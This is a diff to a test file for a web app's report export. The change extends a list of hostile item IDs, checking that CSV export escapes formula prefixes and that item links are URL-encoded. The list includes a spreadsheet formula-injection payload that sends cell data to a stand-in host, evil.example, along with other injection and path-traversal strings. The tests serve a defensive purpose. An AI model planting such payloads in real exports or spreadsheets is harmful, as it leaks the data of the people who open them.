@@ -18,7 +18,7 @@ from contam.app.api.main import create_app
 from contam.app.settings import Settings
 
 Q = "Which river flows through the ancient city of Baghdad and joins the Euphrates near Basra?"
-HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?x="&A1)', "+1+2", "-2+3", "@SUM(1)", "\tx", "a?b#c%d/../e"]
+HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?x="&A1)', "+1+2", "-2+3", "@SUM(1)", "\tx", "a?b#c%d/../e", "\r\n=2+2"]
 
 
 @pytest.fixture
@@ -42,11 +42,15 @@ def test_csv_export_cannot_run_formulas_and_item_links_are_encoded(client: TestC
     rid = _report(client)
     text = client.get(f"/api/v1/reports/{rid}/export", params={"format": "csv"}).text
     ids = [row[0] for row in csv.reader(io.StringIO(text))][1:]
-    assert sorted(ids) == sorted(("'" + i if i[0] in "=+-@\t" else i) for i in HOSTILE_IDS)
-    assert all(not i.startswith(("=", "+", "-", "@", "\t")) for i in ids)
+    assert sorted(ids) == sorted(("'" + i if i[0] in "=+-@\t\r" else i) for i in HOSTILE_IDS)
+    assert all(not i.startswith(("=", "+", "-", "@", "\t", "\r")) for i in ids)
     page = client.get("/items", params={"report": rid, "status": ["contaminated", "suspicious", "clean"]}).text
     assert f'href="/reports/{rid}/items/a%3Fb%23c%25d%2F..%2Fe?idx=' in page
     assert client.get(f"/reports/{rid}/items/a%3Fb%23c%25d%2F..%2Fe").status_code == 200
+    # an id with a line break: its link went to a 404 (Starlette's path parameter stops at one)
+    assert f'href="/reports/{rid}/items/%0D%0A%3D2%2B2?idx=' in page
+    assert client.get(f"/reports/{rid}/items/%0D%0A%3D2%2B2").status_code == 200
+    assert client.get(f"/api/v1/reports/{rid}/items/%0D%0A%3D2%2B2").json()["item_id"] == "\r\n=2+2"
 
 
 def test_every_response_carries_the_security_headers(client: TestClient) -> None:
